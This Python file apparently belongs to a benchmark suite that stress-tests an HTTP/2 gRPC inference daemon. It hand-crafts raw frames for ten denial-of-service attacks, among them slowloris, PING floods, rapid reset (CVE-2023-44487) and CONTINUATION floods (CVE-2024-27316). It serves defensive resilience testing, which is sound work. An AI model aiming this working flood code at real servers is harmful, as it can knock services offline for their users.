"""One kind of attack on a listener, at full speed until standard input ends; then prints its counts.

    python -m benchmarks.attacking.assault KIND ADDRESS [CA CERTIFICATE KEY]

A process of its own, so that it takes no time from whoever measures, and with the least priority: real attackers have
processors of their own. It speaks raw HTTP/2 (RFC 9113): no library would send what is sent here.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import resource
import ssl
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4
IDLE_CONNECTIONS, SLOW_CONNECTIONS, WORKERS = 1000, 100, 8
LEAST = 19
Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Write a frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """Write a header field as HPACK does without its table (RFC 7541, 6.2.2); up to 126 characters each."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


CALL = b"".join(
    literal(name, value)
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/edge_agent.v1.InferenceService/Classify"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)
OPENING = PREFACE + frame(SETTINGS, 0, 0, b"")
PADDING = literal("x-padding", "x" * 126)


@dataclass
class Assault:
    """The target of an attack, and the counts so far."""

    address: str
    tls: ssl.SSLContext | None
    done: Counter[str] = field(default_factory=Counter)

    async def connect(self) -> Stream:
        """Open a connection."""
        if self.address.startswith("unix:"):
            stream = await asyncio.open_unix_connection(self.address.removeprefix("unix:"))
        else:
            host, _, port = self.address.rpartition(":")
            stream = await asyncio.open_connection(host, int(port), ssl=self.tls)
        self.done["connections"] += 1
        return stream

    async def again(self, once: Callable[[Stream], Awaitable[None]]) -> None:
        """Do something on one connection after the other, as often as the other end closes it."""
        while True:
            try:
                stream = await self.connect()
                await once(stream)
                stream[1].close()
            except (OSError, asyncio.IncompleteReadError):
                self.done["closed by the daemon"] += 1
                await asyncio.sleep(0.01)

    # --- what waits ---

    async def idle(self, stream: Stream) -> None:
        """Open HTTP/2, and nothing more."""
        stream[1].write(OPENING)
        await self._until_closed(stream)

    async def halves(self, stream: Stream) -> None:
        """Send half of the first line."""
        stream[1].write(PREFACE[: len(PREFACE) // 2])
        await self._until_closed(stream)

    async def loris(self, stream: Stream) -> None:
        """Send the header fields of a call a byte at a time."""
        _, writer = stream
        writer.write(OPENING)
        for byte in frame(HEADERS, END_HEADERS, 1, CALL + PADDING * 20):
            writer.write(bytes([byte]))
            await writer.drain()
            self.done["bytes"] += 1
            await asyncio.sleep(0.1)

    # --- what floods ---

    async def churn(self, stream: Stream) -> None:
        """Go away again at once."""
        stream[1].write(OPENING)

    async def junk(self, stream: Stream) -> None:
        """Send bytes that are not HTTP/2."""
        stream[1].write(os.urandom(4096))
        await self._until_closed(stream)

    async def pings(self, stream: Stream) -> None:
        """Ask for signs of life without end."""
        await self._flood(stream, lambda _: frame(PING, 0, 0, b"8 bytes!") * 100)

    async def resets(self, stream: Stream) -> None:
        """Begin calls and take them back at once (CVE-2023-44487)."""
        await self._flood(stream, _begun_and_reset)

    async def continuations(self, stream: Stream) -> None:
        """Send header fields without end (CVE-2024-27316 and its like)."""
        stream[1].write(OPENING + frame(HEADERS, 0, 1, CALL))
        await self._flood(stream, lambda _: frame(CONTINUATION, 0, 1, PADDING * 100), opening=b"")

    async def metadata(self, stream: Stream) -> None:
        """Make calls with more metadata than is taken."""
        await self._flood(stream, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, CALL + PADDING * 116))

    async def oversize(self, stream: Stream) -> None:
        """Announce a message of a gigabyte, and begin to send it."""
        await self._flood(stream, _announced)

    async def _flood(self, stream: Stream, made: Callable[[int], bytes], opening: bytes = OPENING) -> None:
        reader, writer = stream
        writer.write(opening)
        reading = asyncio.create_task(_discard(reader))
        try:
            for number in range(2**30):
                writer.write(made(number))
                async with asyncio.timeout(5):
                    await writer.drain()
                self.done["frames"] += 1
                if reading.done():
                    raise ConnectionResetError
                await asyncio.sleep(0)
        except TimeoutError:  # it reads no more: that is an answer, too
            raise ConnectionResetError from None
        finally:
            reading.cancel()

    async def _until_closed(self, stream: Stream) -> None:
        await _discard(stream[0])
        raise ConnectionResetError


def _begun_and_reset(number: int) -> bytes:
    first = 200 * number + 1
    begun = (
        frame(HEADERS, END_HEADERS, at, CALL) + frame(RST_STREAM, 0, at, b"\0\0\0\x08")
        for at in range(first, first + 200, 2)
    )
    return b"".join(begun)


def _announced(number: int) -> bytes:
    begin = frame(HEADERS, END_HEADERS, 2 * number + 1, CALL)
    return begin + frame(DATA, 0, 2 * number + 1, struct.pack(">BI", 0, 2**30) + b"x" * 16_000)


async def _discard(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(2**16):
            pass


KINDS: dict[str, tuple[Callable[[Assault, Stream], Awaitable[None]], int]] = {
    "idle": (Assault.idle, IDLE_CONNECTIONS),
    "halves": (Assault.halves, IDLE_CONNECTIONS),
    "loris": (Assault.loris, SLOW_CONNECTIONS),
    "churn": (Assault.churn, WORKERS),
    "junk": (Assault.junk, WORKERS),
    "pings": (Assault.pings, WORKERS),
    "resets": (Assault.resets, WORKERS),
    "continuations": (Assault.continuations, WORKERS),
    "metadata": (Assault.metadata, WORKERS),
    "oversize": (Assault.oversize, WORKERS),
}


async def assault(kind: str, address: str, files: list[str]) -> Counter[str]:
    """Attack until standard input ends."""
    what, connections = KINDS[kind]
    one = Assault(address, _tls(*files) if files else None)
    tasks = [asyncio.create_task(one.again(lambda stream: what(one, stream))) for _ in range(connections)]
    await asyncio.to_thread(sys.stdin.read)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return one.done


def _tls(ca: str, certificate: str, key: str) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=ca)
    context.load_cert_chain(certificate, key)
    context.set_alpn_protocols(["h2"])
    return context


if __name__ == "__main__":
    os.nice(LEAST)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    sys.stdout.write(json.dumps(asyncio.run(assault(sys.argv[1], sys.argv[2], sys.argv[3:]))))
